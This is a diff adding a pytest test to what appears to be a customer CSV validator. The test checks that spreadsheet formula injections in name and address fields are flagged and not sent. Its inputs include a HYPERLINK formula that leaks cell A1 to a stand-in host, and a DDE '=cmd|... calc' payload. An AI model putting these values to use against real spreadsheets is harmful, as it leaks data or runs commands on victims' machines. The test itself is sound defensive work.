@@ -154,3 +154,20 @@ def test_a_consent_column_alone_says_yes(tmp_path: Path, write_csv):
     flags = [{k: v for k, v in b["customer"]["phoneNumbers"][0].items() if k.startswith("ok")}
              for b in read_jsonl(payloads)]
     assert flags == [{"okToCall": True, "okToText": True}, {"okToCall": False, "okToText": False}, {}]
+
+
+def test_a_formula_in_a_name_or_address_is_not_sent(tmp_path: Path, write_csv):
+    path = write_csv([DV_HEADER,
+                      dv_row("1", first='=HYPERLINK("http://x.example/?"&A1,"Ann")', last="Lee", line1="@SUM(A1:A9)",
+                             city="Boston"),
+                      dv_row("2", first="Bob", last="=cmd|' /C calc'!A0"),
+                      dv_row("3", first="Cy", last="Day", line1="-1 Main St")])
+    results, bodies = _validate(path, tmp_path)
+    assert "First Name: would run as a spreadsheet formula; not sent" in results[0]["warnings"]
+    assert "Address Line 1: would run as a spreadsheet formula" in results[0]["warnings"]
+    assert results[0]["status"] == "valid"
+    assert bodies[0]["customer"] == {"customerKey": "1", "lastName": "Lee", "addresses": [
+        {"city": "Boston", "country": "US", "type": "PRIMARY", "addressType": "P"}]}
+    assert results[1]["status"] == "invalid"
+    assert "Last Name would run as a spreadsheet formula" in results[1]["error_message"]
+    assert bodies[1]["customer"]["addresses"][0]["line1"] == "-1 Main St"
